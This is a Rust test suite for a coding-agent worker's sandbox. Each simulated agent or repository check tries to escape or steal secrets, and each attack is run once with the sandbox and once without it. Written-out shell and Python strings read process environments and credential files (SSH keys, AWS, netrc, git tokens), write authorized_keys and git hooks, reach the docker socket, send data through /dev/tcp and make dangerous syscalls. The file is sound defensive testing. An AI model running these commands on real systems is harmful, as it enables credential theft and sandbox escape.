//! The agent attacks the machine that it runs on. Each attack is made twice: in the sandbox, where
//! it must fail, and without one, where it must succeed. The second shows that the attack does not
//! fail for another reason.

use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::PathBuf;

use serde_json::json;

use crate::world::attack::{Attack, CANARY, TcpTarget, check_read, read};
use crate::world::running::Running;
use crate::world::{TASK_SCRIPT, TOKEN, World};

const NO_OTHER_CHECKS: &str = "build = \"\"\nformat = \"\"\nlint = \"\"\nsetup = \"\"\n";

/// The attacks look for a secret in these places. One that comes out everywhere is found in all.
#[tokio::test(flavor = "multi_thread")]
async fn a_text_that_comes_out_is_found_in_every_place_that_attacks_look_at() {
    let world = World::new().await;
    let mut attack = Attack::in_world(world, &format!("Add a greeting to {CANARY}")).await;
    attack.world.agent(&format!("echo {CANARY} > hello.txt; echo test > hello_test.txt"));
    let ran = attack.world.work().await;
    assert_eq!(ran.code, Some(0), "{ran:?}");
    let everywhere =
        ["its log", "its files", "its repository", "a request", "the forge's repository"];
    assert_eq!(attack.places_with(CANARY, &ran), everywhere);
    attack.world.check_done(attack.issue).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_environment_of_the_worker_can_not_be_read() {
    check_read(|_| "cat /proc/*/environ > \"$OUTPUT\" 2>/dev/null".to_owned(), TOKEN).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_environment_of_the_agent_holds_no_secret() {
    for passed in [true, false] {
        let mut attack = Attack::new(true).await;
        attack.world.agent(&format!("env >> '{}'; {TASK_SCRIPT}", attack.output_file().display()));
        if passed {
            attack.world.set("agent", json!({ "pass_environment": ["MODEL_KEY"] }));
        }
        let environment = [
            ("GITHUB_TOKEN", TOKEN),
            ("MODEL_KEY", CANARY),
            ("AWS_SECRET_ACCESS_KEY", "of-the-worker"),
        ];
        let ran = attack.world.run_with(&["worker", "--once"], &environment).await;
        assert_eq!(ran.code, Some(0), "{ran:?}");
        attack.check_contained(&ran).await;
        let output = attack.output();
        assert_eq!(output.contains(CANARY), passed, "{output}");
        assert!(output.contains("PATH="), "{output}");
        for kept in [TOKEN, "GITHUB", "AWS", "of-the-worker"] {
            assert!(!output.contains(kept), "{kept} is in {output}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn keys_in_the_home_directory_can_not_be_read() {
    let files = [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".config/gh/hosts.yml",
        ".netrc",
        ".git-credentials",
        ".cargo/credentials.toml",
    ];
    let prepare = |attack: &mut Attack| {
        let home = attack.world.path().to_path_buf();
        for file in files {
            let file = home.join(file);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, CANARY).unwrap();
        }
        format!("cd '{}'; cat {} > \"$OUTPUT\"", home.display(), files.join(" "))
    };
    check_read(prepare, CANARY).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_workers_own_files_can_not_be_read() {
    let prepare = |attack: &mut Attack| {
        let data = attack.world.data_dir();
        std::fs::create_dir_all(data.join("repositories/owner/secret.git")).unwrap();
        std::fs::write(data.join("repositories/owner/secret.git/config"), CANARY).unwrap();
        format!("grep -rhs {CANARY} '{}' / --include=config > \"$OUTPUT\"", data.display())
    };
    // Without a sandbox, searching the whole disk would take long, and the first directory is
    // enough.
    check_read(|attack| prepare(attack).replace(" / ", " "), CANARY).await;
}

/// The agent searches wherever it may look: its tree with all of git's files, its home, its
/// temporary files, the system's settings.
#[tokio::test(flavor = "multi_thread")]
async fn no_file_in_reach_holds_the_token() {
    let prepare = |attack: &mut Attack| {
        // The pattern is not the token itself, or the search would find its own script.
        let (start, end) = TOKEN.split_at(TOKEN.len() - 1);
        let pattern = format!("{start}[{end}]");
        let places = "\"$PWD\" \"$HOME\" \"$TMPDIR\" /etc /run";
        // Outside of a sandbox these are the machine's own, and may be of any size.
        let temporary = "$(test -e /run/codingworker/codingworker && echo /tmp /var)";
        let world = attack.world.path().display();
        format!("grep -rahs '{pattern}' {places} {temporary} '{world}' > \"$OUTPUT\"")
    };
    // Without a sandbox the agent reaches the forge's own files, which are on this machine here.
    check_read(prepare, TOKEN).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_the_worker_inherited_open_is_not_handed_on() {
    for sandboxed in [false, true] {
        let mut attack = Attack::new(sandboxed).await;
        let secret = attack.world.path().join("secret");
        std::fs::write(&secret, CANARY).unwrap();
        let output = attack.output_file();
        attack.world.agent(&format!("cat <&7 >> '{}'\n{TASK_SCRIPT}", output.display()));
        let worker = attack.world.command(&["worker", "--once"]);
        let worker = worker.as_std();
        let mut shell = tokio::process::Command::new("/bin/sh");
        shell.args(["-c", "exec 7< \"$0\"; exec \"$@\""]).arg(&secret).arg(worker.get_program());
        shell.args(worker.get_args()).env_clear().env("GITHUB_TOKEN", TOKEN);
        shell.envs(worker.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let mut worker = Running::start(shell);
        let status = worker.ended().await;
        assert!(status.success(), "{status}: {}", worker.printed());
        assert_eq!(attack.output().contains(CANARY), !sandboxed);
        attack.world.check_done(attack.issue).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_outside_the_workspace_is_written() {
    for sandboxed in [false, true] {
        let mut attack = Attack::new(sandboxed).await;
        let home = attack.world.path().to_path_buf();
        let hooks = attack.world.data_dir().join("repositories/owner/repo.git/hooks");
        let mut script = String::new();
        let marks = [
            home.join(".profile"),
            home.join(".ssh/authorized_keys"),
            hooks.join("pre-push"),
            PathBuf::from("../../mark"),
        ];
        for mark in &marks {
            let directory = mark.parent().unwrap().display();
            script.push_str(&format!(
                "mkdir -p '{directory}'; echo {CANARY} > '{}'\n",
                mark.display()
            ));
        }
        attack.run(&script).await;
        for mark in marks.iter().filter(|mark| mark.is_absolute()) {
            assert_eq!(mark.exists(), !sandboxed, "{}", mark.display());
        }
        assert_eq!(home.join("worker/runs/1/mark").exists(), !sandboxed);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sockets_of_docker_and_of_the_desktop_can_not_be_reached() {
    for sandboxed in [false, true] {
        let mut attack = Attack::new(sandboxed).await;
        let name = format!("{CANARY}-{sandboxed}-{}", std::process::id());
        let _desktop =
            UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
        let docker = attack.world.path().join("docker.sock");
        let _docker = UnixListener::bind(&docker).unwrap();
        let script = format!(
            "python3 -c \"import socket\n\
             for name in ['{}', chr(0) + '{name}']:\n  \
             try: socket.socket(socket.AF_UNIX).connect(name); print('reached')\n  \
             except OSError: print('closed')\" > \"$OUTPUT\"",
            docker.display()
        );
        attack.run(&script).await;
        let expected = if sandboxed { "closed\nclosed\n" } else { "reached\nreached\n" };
        assert_eq!(attack.output(), expected);
    }
}

/// In the sandbox, each of these system calls fails with EPERM (or ENOSYS); without one it is not
/// refused, or fails for another reason.
#[tokio::test(flavor = "multi_thread")]
async fn dangerous_system_calls_are_refused() {
    const CALLS: &str = r#"
import ctypes, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(*arguments)
    print(name, 'refused' if result == -1 and ctypes.get_errno() == 1 else 'passed')
x86 = platform.machine() == 'x86_64'
call('ptrace', 101 if x86 else 117, 0, 0, 0, 0)
call('io_uring', 425, 0, 0)
call('tiocsti', 16 if x86 else 29, 0, 0x5412, b'x')
call('keyctl', 250 if x86 else 219, 0, -3, 0)
try: socket.socket(40, socket.SOCK_STREAM); print('vsock passed')
except OSError as error: print('vsock', 'refused' if error.errno == 1 else 'passed')
try: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); print('netfilter passed')
except OSError as error: print('netfilter', 'refused' if error.errno == 1 else 'passed')
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
try: os.memfd_create('x'); print('memfd passed')
except OSError as error: print('memfd', 'refused' if error.errno == 38 else 'passed')
pid = os.fork()
if pid == 0:
    call('namespace', 272 if x86 else 97, 0x10000000)
    os._exit(0)
os.waitpid(pid, 0)
"#;
    for sandboxed in [false, true] {
        let mut attack = Attack::new(sandboxed).await;
        let file = attack.world.shared_dir().join("calls.py");
        std::fs::write(&file, CALLS).unwrap();
        attack.run(&format!("python3 -u '{}' > \"$OUTPUT\"", file.display())).await;
        let output = attack.output();
        assert_eq!(output.lines().count(), 8, "{output}");
        let refused = output.lines().filter(|line| line.ends_with("refused")).count();
        if sandboxed {
            assert_eq!(refused, 8, "{output}");
        } else {
            assert!(refused <= 1, "a container may refuse one of them itself: {output}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_program_in_the_sandbox_can_not_make_a_namespace() {
    let unshare = format!("unshare --user --map-root-user echo {CANARY} > \"$OUTPUT\"");
    check_read(|_| unshare.clone(), CANARY).await;
}

/// A check is a program of the repository's, and may be as hostile as an agent.
#[tokio::test(flavor = "multi_thread")]
async fn a_check_runs_in_the_same_sandbox_as_an_agent() {
    for sandboxed in [false, true] {
        let mut world = World::without_repository().await;
        if !sandboxed {
            world.without_sandbox();
        }
        let output = world.shared_dir().join("output");
        let target = TcpTarget::new();
        let secret = world.path().join(".netrc");
        std::fs::write(&secret, CANARY).unwrap();
        let settings = format!("[checks]\n{NO_OTHER_CHECKS}test = \"sh check.sh\"\n");
        let check = format!(
            "cat /proc/*/environ '{}' > '{}' 2>/dev/null\n\
             bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{}' 2>/dev/null\n\
             true\n",
            secret.display(),
            output.display(),
            target.port()
        );
        world.forge.repository(
            "owner/repo",
            "main",
            &[(".codingworker.toml", &settings), ("check.sh", &check)],
        );
        let issue = world.task("Add a greeting", "").await;
        assert_eq!(world.work().await.code, Some(0));
        let output = read(&output);
        let found = (output.contains(TOKEN), output.contains(CANARY));
        assert_eq!(found, (!sandboxed, !sandboxed), "{output}");
        assert_eq!(target.received().is_some(), !sandboxed);
        world.check_done(issue).await;
    }
}

/// What one repository's tools download could be a library that another repository's build links.
#[tokio::test(flavor = "multi_thread")]
async fn one_repository_does_not_see_the_downloads_of_another() {
    let mut world = World::without_repository().await;
    let output = world.shared_dir().join("output");
    let settings = format!("[checks]\n{NO_OTHER_CHECKS}test = \"sh check.sh\"\n");
    let leave = format!("mkdir -p $CARGO_HOME; echo {CANARY} > $CARGO_HOME/library\n");
    // It looks into its own cache, and into whatever is beside it.
    let look = format!(
        "cat $CARGO_HOME/library $CARGO_HOME/../../*/*/library >> '{}' 2>/dev/null; true\n",
        output.display()
    );
    for (name, check) in [("owner/repo", format!("{leave}{look}")), ("owner/other", look.clone())] {
        world.forge.repository(
            name,
            "main",
            &[(".codingworker.toml", settings.as_str()), ("check.sh", check.as_str())],
        );
    }
    world.task("Add a greeting", "").await;
    assert_eq!(world.work().await.code, Some(0));
    assert!(read(&output).contains(CANARY), "a repository finds its own downloads");
    std::fs::remove_file(&output).unwrap();
    world.set("repositories", json!(["owner/other"]));
    let issue = json!({ "title": "Add a greeting", "body": "", "labels": ["ai-task"] });
    world.forge.ask(reqwest::Method::POST, "/repos/owner/other/issues", issue).await;
    assert_eq!(world.run(&["submit", "--issue", "owner/other#1"]).await.code, Some(0));
    assert_eq!(world.work().await.code, Some(0));
    assert_eq!(read(&output), "");
    world.leaves_comments_unread("the caches are what this is about, and both runs end well");
}
